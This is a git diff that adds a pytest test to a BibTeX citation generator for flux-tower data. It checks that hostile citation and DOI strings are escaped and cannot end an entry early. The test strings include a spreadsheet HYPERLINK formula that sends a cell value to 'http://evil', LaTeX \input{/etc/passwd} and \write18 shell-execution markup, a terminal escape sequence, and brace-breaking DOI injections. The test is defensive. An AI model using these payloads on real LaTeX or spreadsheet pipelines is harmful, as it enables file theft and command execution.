@@ -2,6 +2,8 @@
 
 import re
 
+import pytest
+
 from tamrl.towers import citations, sites
 from tamrl.towers.networks import fluxnet2015, shuttle
 
@@ -25,6 +27,29 @@ def test_an_entry_for_each_network_and_tower():
     assert r"Müller, A. \& B\_C (2025)" in text and r"100 \%" in text
     assert "url = {https://hdl.handle.net/11676/Z1_x}" in text and "doi = {10.17190/AMF/1}" in text
     assert "year = {2025}" in text
+
+
+EVIL = '=HYPERLINK("http://evil/?x="&A1) } \\input{/etc/passwd} @preamble{"\\immediate\\write18{id}"} ~^ \x1b[2J\nA 50 % (2020), http://h/a}b'
+DOIS = [
+    '10.1/x},\n note={\\input{/etc/passwd}}}\n@preamble{"x"}',
+    "10.1234/x}",
+    "10.1234/a b",
+    "10.1234/",
+    "x10.1234/y",
+]
+
+
+@pytest.mark.parametrize("doi", DOIS)
+def test_nothing_in_a_citation_ends_its_entry_or_is_markup(doi):
+    text = citations.bibtex(sites.table([{"site": "XX-Aaa", "network": "x", "citation": EVIL, "doi": doi}]), {})
+    depth, least = 0, []
+    for sign in text.strip():
+        depth += {"{": 1, "}": -1}.get(sign, 0)
+        least.append(depth)
+    assert least[-1] == 0 and 0 not in least[least.index(1) : -1], "one entry, closed by its last brace"
+    assert text.startswith("@misc{tower_XX-Aaa,\n") and len(text.splitlines()) == 6 and "doi = " not in text
+    assert re.findall(r"\\([a-z]+)", text).count("input") == 0 and "\\write" not in text and "\x1b" not in text
+    assert r"\textbackslash{}input\textbraceleft{}/etc/passwd\textbraceright{}" in text and "url = {http://evil/?x=}" in text
 
 
 def test_thanks_name_the_licence_and_every_tower():
